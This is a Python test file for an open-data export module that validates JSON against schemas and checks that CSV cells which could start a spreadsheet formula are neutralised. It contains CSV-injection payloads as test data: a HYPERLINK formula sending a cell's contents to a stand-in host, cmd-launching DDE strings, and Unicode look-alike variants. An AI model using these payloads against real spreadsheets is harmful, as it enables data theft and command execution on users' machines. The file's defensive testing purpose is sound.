"""Open data: JSON validates against its own schema, CSV opens in a spreadsheet, fields are explained."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from decimal import Decimal
from pathlib import Path

import jsonschema
import pytest

from minhbach.catalog import load_catalog
from minhbach.exports.opendata import DATASETS, csv_bytes, json_fields, spreadsheet_cell
from minhbach.pages import PageRenderer
from tests.conftest import EVENT, FUNDING, LEGAL, NOTICE, PROCEDURE, TODAY, write_project

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def files(project: Path) -> dict[str, bytes]:
    write_project(project, {"data/events/hoi-cho-mot.yml": EVENT, "data/funding/quy-mot.yml": FUNDING, "data/notices/thong-bao-mot.yml": NOTICE})
    catalog, _ = load_catalog(project / "data")
    return PageRenderer(catalog, today=TODAY).data_files()


@pytest.mark.parametrize("dataset", DATASETS, ids=lambda d: d.name)
def test_json_export_validates_against_its_own_schema(files, dataset):
    data = json.loads(files[f"du-lieu/{dataset.name}.json"])
    schema = json.loads(files[f"du-lieu/{dataset.name}.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(data)
    assert len(data) == 1
    assert "sources" not in data[0], "editor-only notes are not published"


def test_the_real_data_validates_too():
    catalog, _ = load_catalog(ROOT / "data")
    files = PageRenderer(catalog, today=TODAY).data_files()
    for dataset in DATASETS:
        schema = json.loads(files[f"du-lieu/{dataset.name}.schema.json"])
        jsonschema.Draft202012Validator(schema).validate(json.loads(files[f"du-lieu/{dataset.name}.json"]))


def test_pending_parts_stay_marked_in_json(files):
    [procedure] = json.loads(files["du-lieu/thu-tuc.json"])
    assert procedure["national_code"] == {"pending": "Chưa tra được mã."}


def test_csv_has_a_bom_a_header_and_one_row_per_record(files):
    raw = files["du-lieu/thu-tuc.csv"]
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["ten"] == "Hợp pháp hóa lãnh sự" and row["ma_thu_tuc"] == "đang cập nhật"
    assert row["thoi_han"] == "Trực tiếp: 01 ngày làm việc; Trực tuyến: Tùy số lượng giấy tờ"
    assert row["trang"] == "thu-tuc/hop-phap-hoa/"
    events = list(csv.DictReader(io.StringIO(files["du-lieu/su-kien.csv"].decode("utf-8-sig"))))
    assert events[0]["bat_dau"] == "2026-12-02T08:00:00+07:00"


def test_every_json_field_is_explained_from_the_model():
    for dataset in DATASETS:
        fields = json_fields(dataset)
        assert fields and all(title for _, title, _, _ in fields), dataset.name


# Text a spreadsheet would run as a formula, or that starts like one.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?d="&A2,"Bấm để xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1,2)",
    "＝HYPERLINK(\"http://example.invalid\")",
    "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫SUM(1)",
    "=1,2;\"a\"\n=3",
]


def _starts_a_formula(cell: str) -> bool:
    """What spreadsheets run: =, +, -, @ (or a full-width or small form) after spaces and invisible
    characters, or a cell that starts with tab or carriage return (OWASP, CSV Injection)."""
    visible = cell.lstrip(" \t\r\n\u00a0\u3000\u200b\ufeff")
    return cell.startswith(("\t", "\r")) or unicodedata.normalize("NFKC", visible[:1]) in ("=", "+", "-", "@")


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "\\r").replace("\n", "\\n") + '"'


def _formula_project(project: Path) -> dict[str, bytes]:
    values = iter(FORMULAS * 3)

    def f() -> str:
        return _quoted(next(values))

    procedure = PROCEDURE.replace("name: Hợp pháp hóa lãnh sự", f"name: {f()}").replace(
        "authority: Cục Lãnh sự, Bộ Ngoại giao", f"authority: {f()}").replace("performing: Cục Lãnh sự, Bộ Ngoại giao", f"performing: {f()}")
    legal = LEGAL.replace("issuer: Chính phủ", f"issuer: {f()}").replace("title: Về chứng nhận lãnh sự, hợp pháp hóa lãnh sự", f"title: {f()}")
    event = EVENT.replace("title: Hội chợ thử nghiệm", f"title: {f()}").replace("organiser: Ban tổ chức thử nghiệm", f"organiser: {f()}").replace(
        "location: Quảng trường trung tâm, phường Lương Văn Tri, tỉnh Lạng Sơn", f"location: {f()}").replace(
        "event_type:", f"country: {f()}\nevent_type:")
    funding = FUNDING.replace("title: Quỹ thử nghiệm", f"title: {f()}").replace("funder: Quỹ thử nghiệm", f"funder: {f()}").replace(
        "amount: 300.000–1.000.000 USD mỗi dự án", f"amount: {f()}")
    notice = NOTICE.replace("title: Thông báo thử nghiệm", f"title: {f()}")
    write_project(project, {"data/procedures/hop-phap-hoa.yml": procedure, "data/legal/nd-111-2011.yml": legal,
                            "data/events/hoi-cho-mot.yml": event, "data/funding/quy-mot.yml": funding, "data/notices/thong-bao-mot.yml": notice})
    catalog, findings = load_catalog(project / "data")
    assert not [f for f in findings if f.is_error], findings
    assert all(len(by_id) == 1 for kind, by_id in catalog.entries.items() if kind in {d.kind for d in DATASETS})
    return PageRenderer(catalog, today=TODAY).data_files()


def test_csv_cells_that_start_a_formula_are_neutralised(project: Path):
    files = _formula_project(project)
    neutralised = 0
    for dataset in DATASETS:
        rows = list(csv.reader(io.StringIO(files[f"du-lieu/{dataset.name}.csv"].decode("utf-8-sig"), newline="")))
        assert len(rows) == 2, dataset.name
        for cell in rows[1]:
            assert not _starts_a_formula(cell), (dataset.name, cell)
            if cell.startswith("'") and _starts_a_formula(cell[1:]):
                assert cell[1:] in FORMULAS or cell[1:].startswith(tuple(FORMULAS))
                neutralised += 1
    assert neutralised == 13  # every text column written above (3 + 2 + 4 + 3 + 1), in all five datasets


def test_json_exports_keep_formula_like_text_exact(project: Path):
    files = _formula_project(project)
    [notice] = json.loads(files["du-lieu/thong-bao.json"])
    assert notice["title"] in FORMULAS
    everything = b"".join(files[f"du-lieu/{dataset.name}.json"] for dataset in DATASETS).decode("utf-8")
    assert "'=HYPERLINK" not in everything and json.dumps(FORMULAS[0], ensure_ascii=False) in everything


@pytest.mark.parametrize("cell", [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1", "  =1", "\u00a0\u3000=1", "\u200b=1", "\ufeff=1",
    "＝1", "＋1", "－1", "＠1", "﹦1", "﹢1", "﹣1", "﹫1", "⁼1", "-", " - gạch đầu dòng", "\tchữ",
])
def test_text_that_a_spreadsheet_would_run_gets_a_quote_in_front(cell):
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Hộ chiếu", "1-2", "a=b", "Điều 1 + Điều 2", "'=quoted already", "30.000 đồng", "2026-11-27", ""])
def test_ordinary_text_is_written_as_it_is(cell):
    assert spreadsheet_cell(cell) == cell


def test_numbers_are_typed_values_and_stay_numbers_even_when_negative():
    raw = csv_bytes([("so", "thap_phan", "phan_so", "chu"), (-3, Decimal("-1.50"), -0.25, "-3")])
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1] == ["-3", "-1.50", "-0.25", "'-3"]
